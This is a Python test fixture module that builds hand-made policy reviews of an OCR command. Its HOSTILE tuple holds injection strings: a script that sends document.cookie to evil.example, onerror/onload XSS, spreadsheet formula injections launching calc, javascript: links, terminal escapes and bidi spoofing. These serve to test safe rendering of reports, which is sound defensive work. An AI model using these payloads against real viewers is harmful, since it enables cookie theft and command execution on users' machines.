"""Reviews for tests, made by hand: all seven verdicts, and a target that is as hostile as it can be."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, timedelta

from cloister.policy import Policy, sha256
from cloister.review.claims import COMMAND
from cloister.review.record import today
from cloister.review.result import Edge, Review, Stratum
from cloister.review.verdict import Coverage, Exhibit, Finding, Ground, Need, Verdict, View, judge
from tests.policy.made import policy

HOSTILE = (
    "/tmp/\x1b]0;owned\x07\x1b[2J\x1b[31mREFUTED\x1b[0m",
    "/tmp/\u202e\u2066txt.exe\u2069\u202c\u200b\ufeff\U000e0041",
    "/tmp/<script>fetch('http://evil.example/'+document.cookie)</script>",
    '"><img src=http://evil.example/x.png onerror=alert(1)>',
    "</title></style></svg></text><svg onload=alert(1)>",
    "x](http://evil.example/) ![i](http://evil.example/i.png) <http://evil.example>",
    "| a | b |\n|---|---|\n# Heading\n- **VERIFIED**\n### `nothing-kept`: **VERIFIED**\n",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%%{init: {'securityLevel': 'loose'}}%%\nclick n0 href \"javascript:alert(1)\"",
    "]]><!-- --><![CDATA[ &#x202e; &lt; &xxe;",
    "a\x00b\udcff\r\n\u2028::error file=x::y",
    '" data-claim="nothing-kept" data-verdict="verified"',
    "---\nstatus: accepted\n---\n$$\\href{javascript:alert(1)}{x}$$",
    "`" * 40 + " [[x]] {{7*7}} ${7*7} %s",
    "l" * 5000,
    "/tmp/" + "ע" * 10 + "\u0627" * 10 + "Z\u0351\u036b" + "\u0301" * 200,
)
"""Text that a target chooses: escapes, bidi, markup of every format, formulas, null bytes, very long."""

_MET = tuple(Ground(need, met=True, why=f"the {need.value} was shown") for need in Need)
_SEEN = Coverage(
    View.GREY,
    ("trace", "walk", "network", "syslog", "processes", "streams"),
    "an ordinary user in its own namespaces",
    48_211_003,
    1.0,
    ("memory of processes that had ended",),
)


def signed_off(name: str = "clinic", last: date = date(2026, 11, 1), kinds: int = 9) -> Policy:
    """A shipped policy that was reviewed on a day, with some of its kinds: fewer take less time."""
    made = policy(name)
    made = replace(made, kinds=dict(list(made.kinds.items())[:kinds]))
    return replace(made, review=replace(made.review, last=last, approved_by=("R. Hensel",)))


def _findings(hostile: tuple[str, ...]) -> tuple[Finding, ...]:
    exhibits = tuple(
        Exhibit("a file that holds a page of the document", where, f"killed/{i}", "pixels", "gzip > utf-16")
        for i, where in enumerate(hostile)
    )
    ids = [claim.id for claim in COMMAND]
    verdicts = {
        ids[0]: judge(ids[0], grounds=_MET, coverage=_SEEN),
        ids[1]: judge(ids[1], grounds=_MET, coverage=_SEEN),
        ids[2]: judge(ids[2], grounds=_MET, exhibits=exhibits, coverage=_SEEN),
        ids[3]: judge(ids[3], grounds=_MET[:2], coverage=_SEEN),
        ids[4]: judge(ids[4], grounds=(*_MET[:3], Ground(Need.HORIZON, met=False, why="a cron job runs at midnight"))),
        ids[5]: Finding(ids[5], Verdict.ATTESTED, "attested elsewhere"),
        ids[6]: Finding(ids[6], Verdict.STALE, "verified, until 2026-01-01", _MET),
        ids[7]: Finding(ids[7], Verdict.NOT_CLAIMED, "the policy leaves it out"),
    }
    return (*verdicts.values(), *(judge(each, grounds=_MET, coverage=_SEEN) for each in ids[8:13]))


def review(of: Policy, hostile: tuple[str, ...] = HOSTILE, *, findings: tuple[Finding, ...] | None = None) -> Review:
    """A review of an OCR command with all seven verdicts. The last mandatory claim has no finding."""
    edges = (
        Edge("input", "tool", "the document", "as its owner keeps it", "read only", declared=True, observed=True),
        Edge("tool", "output", "its text", "as who asked keeps it", "mode 600", declared=True, observed=True),
        Edge("tool", "standard error", "messages", "as who started it", "none", declared=True, observed=False),
        *(
            Edge("tool", where, "something of the document", "stays", "mode 644", declared=False, observed=True)
            for where in dict.fromkeys(hostile)
        ),
    )
    return Review(
        target="command",
        command=(
            "ocrtool",
            "--output-type",
            "pdf",
            "{input}",
            "{output}",
            *(hostile[:4] if hostile is HOSTILE else ()),
        ),
        tool_sha256="ab" * 32,
        policy_name=of.policy.name,
        policy_sha256=sha256(of),
        verifier="cloister 0.1.0",
        verifier_sha256="cd" * 32,
        samples_sha256="ef" * 32,
        nonce="0123456789abcdef0123456789abcdef",
        started="2026-11-20T09:00:00Z",
        ended="2026-11-20T09:04:11Z",
        valid_until="2027-05-19T09:04:11Z",
        seconds_median=1.42,
        seconds_p95=2.13,
        memory_peak=412 << 20,
        runs=37,
        token_sha256=tuple(f"{i:064x}" for i in range(24)),
        findings=_findings(hostile) if findings is None else findings,
        strata=(
            Stratum("clean", 20, 4112, 0.991, 0.987, 0.994, 0.989),
            Stratum("low quality", 20, 3977, 0.902, 0.892, 0.911, 0.915),
            Stratum("tables", 20, 5020, 0.955, 0.949, 0.961, 0.96),
            Stratum("handwriting", 20, 1204, 0.412, 0.384, 0.440, 0.51),
        ),
        edges=edges,
        notes=("No canary was planted at: xmp.",),
    )


def sound(of: Policy) -> Review:
    """A review in which everything was verified."""
    every = tuple(judge(claim.id, grounds=_MET, coverage=_SEEN) for claim in COMMAND)
    return replace(review(of, (), findings=every), notes=())


def now(made: Review) -> Review:
    """The same review, done today."""
    day, until = today().isoformat(), (today() + timedelta(days=180)).isoformat()
    return replace(made, started=f"{day}T09:00:00Z", ended=f"{day}T09:04:11Z", valid_until=f"{until}T09:04:11Z")


PLAIN = (
    "/home/tool/.cache/ocrtool/page-*.png",
    "/tmp/ocr.io.*/origin.pdf",
    "/tmp/ocr.io.*/000001_ocr_hocr.txt",
)
"""What an ordinary leak looks like."""
